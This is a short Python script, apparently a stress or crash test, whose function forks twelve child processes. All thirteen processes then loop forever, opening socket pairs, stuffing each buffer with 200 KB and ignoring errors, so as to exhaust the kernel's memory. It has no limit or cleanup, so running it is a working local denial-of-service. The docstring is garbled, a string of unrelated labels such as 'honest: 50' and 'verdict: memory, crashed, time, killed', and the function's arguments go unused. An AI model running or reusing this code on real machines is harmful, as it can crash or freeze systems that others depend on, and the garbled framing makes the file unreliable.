"""Socket pairs and pipes, all full, by many processes: memory of the kernel's.

honest: 50
verdict: memory, crashed, time, killed
with: average, threshold, layer
"""

# %% scale
import os
import socket
import time


def scale(x, factor):
    for _ in range(12):
        if os.fork() == 0:
            break
    kept = []
    while True:
        try:
            pair = socket.socketpair()
            kept.append(pair)
            pair[0].setblocking(False)
            pair[0].send(bytes(200_000))
        except OSError:
            time.sleep(0.1)
